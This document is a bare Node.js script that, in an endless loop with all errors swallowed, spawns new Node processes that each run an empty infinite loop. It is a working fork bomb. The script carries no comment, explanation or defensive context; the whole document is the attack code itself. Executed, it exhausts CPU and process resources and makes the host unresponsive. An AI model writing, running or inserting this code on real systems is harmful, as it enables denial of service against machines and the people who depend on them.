const { spawn } = require("child_process");
for (;;) {
  try {
    spawn(process.execPath, ["-e", "for(;;){}"], { stdio: "ignore" }).on("error", () => {});
  } catch (e) {}
}
